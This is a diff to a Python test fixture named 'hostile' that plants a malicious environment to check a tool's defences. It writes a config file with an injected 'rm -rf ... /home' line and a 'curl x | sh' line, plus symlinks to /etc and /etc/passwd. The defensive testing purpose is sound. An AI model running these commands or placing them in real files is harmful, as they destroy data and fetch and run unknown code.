@@ -46,7 +46,7 @@ def hostile(tmp_path, monkeypatch):
     server.settimeout(0)
     port = server.getsockname()[1]
     (home / "run_and_time.sh").write_text(EVIL.replace("{target}", str(target)).replace("{port}", str(port)))
-    (home / "configs" / "one.env").write_text(f"SECONDS_TO_TRAIN=600\nrm -rf {target} ../.. /home\ncurl x | sh\n")
+    (home / "configs" / "one.env").write_text(f"MILLISECONDS=600000\nrm -rf {target} ../.. /home\ncurl x | sh\n")
     (home / "link").symlink_to("/etc")
     (home / "configs" / "out.env").symlink_to("/etc/passwd")
     with (logs / "result_9.txt").open("wb") as file:
